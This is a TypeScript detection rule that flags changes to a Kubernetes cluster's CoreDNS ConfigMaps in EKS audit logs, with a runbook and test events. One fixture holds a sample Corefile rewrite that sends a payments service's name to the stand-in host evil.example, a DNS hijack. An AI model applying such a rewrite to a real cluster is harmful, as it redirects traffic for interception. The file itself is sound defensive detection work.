import type { AuditEvent } from '../../ingest';
import { actor, actorName, isSystemIdentity, isWrite, pastTense, succeeded } from '../../kube';
import type { RuleDetector } from '../types';
import { baseEntities, isCicdIdentity } from './lib/actor';
import { exampleEvent } from './lib/example-events';

const DNS_CONFIGMAPS = new Set(['coredns', 'coredns-custom', 'kube-dns']);

export const corednsModified: RuleDetector<AuditEvent> = {
  id: 'audit.coredns-modified',
  kind: 'rule',
  source: 'eks-audit',
  title: 'Cluster DNS configuration changed',
  description:
    'The CoreDNS configuration (kube-system/coredns, coredns-custom or kube-dns ConfigMap) was changed by someone ' +
    'other than EKS. Whoever controls the Corefile can answer any name inside the cluster: send the payments ' +
    "service's traffic, or the AWS API's, to a host of their choosing. Changes by the CI/CD identities are medium.",
  severity: 'high',
  mitre: ['T1565.002', 'T1557'],
  dedupeMinutes: 60,
  equivalents: {
    falco: 'none',
    guardduty: 'none',
    elastic: 'Kubernetes CoreDNS or Kube-DNS Configuration Modified',
    sigma: 'none',
  },
  runbook:
    'Diff the Corefile against the last known good version (rewrite, hosts and forward plugins are where a hijack ' +
    'hides). Revert anything unexplained and restart CoreDNS; find who had write access to kube-system ConfigMaps.',

  detect(event, context) {
    const ref = event.objectRef;
    if (ref?.resource !== 'configmaps' || ref.namespace !== 'kube-system' || ref.subresource) return undefined;
    if (!DNS_CONFIGMAPS.has(ref.name ?? '') || !isWrite(event.verb) || !succeeded(event)) return undefined;
    const user = actor(event);
    if (isSystemIdentity(user)) return undefined;
    return {
      severity: isCicdIdentity(user, context, event) ? 'medium' : 'high',
      summary: `${actorName(event)} ${pastTense(event.verb)} the cluster DNS configuration kube-system/${ref.name}${event.sourceIps[0] ? ` from ${event.sourceIps[0]}` : ''}.`,
      entities: baseEntities(event),
      evidence: `${event.verb} ${event.requestUri.slice(0, 250)} -> ${event.responseCode ?? '?'}`,
      dedupeKey: `${user.username}|${ref.name}`,
    };
  },

  examples: {
    fires: [
      exampleEvent({
        verb: 'update',
        resource: 'configmaps',
        namespace: 'kube-system',
        name: 'coredns',
        requestObject: { data: { Corefile: '.:53 {\n  rewrite name api.payments.svc.cluster.local evil.example\n}' } },
      }),
      exampleEvent({ verb: 'patch', resource: 'configmaps', namespace: 'kube-system', name: 'coredns-custom' }),
    ],
    quiet: [
      exampleEvent({
        verb: 'patch',
        resource: 'configmaps',
        namespace: 'kube-system',
        name: 'coredns',
        user: { username: 'eks:addon-manager', groups: ['system:authenticated'] },
      }),
      exampleEvent({ verb: 'get', resource: 'configmaps', namespace: 'kube-system', name: 'coredns' }),
      exampleEvent({ verb: 'update', resource: 'configmaps', namespace: 'web', name: 'coredns' }),
    ],
  },
};
